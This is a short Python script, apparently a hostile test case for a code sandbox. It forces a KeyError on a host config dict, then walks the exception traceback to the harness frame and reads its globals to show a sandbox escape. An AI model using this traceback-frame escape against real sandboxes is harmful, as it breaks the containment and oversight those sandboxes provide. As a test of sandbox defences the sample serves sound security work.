# ruff: noqa - a hostile script, kept as written
# threat: 3 reach interpreter internals
# technique: KeyError from a host dict: __traceback__ frames -> f_globals
# naive exec: escapes: an exception raised inside the harness exposes the harness frame
try:
    app.config["does-not-exist"]
except KeyError as exc:
    tb = exc.__traceback__
    while tb.tb_next is not None:
        tb = tb.tb_next
    result = "ESCAPED " + str(sorted(tb.tb_frame.f_globals)[:5])
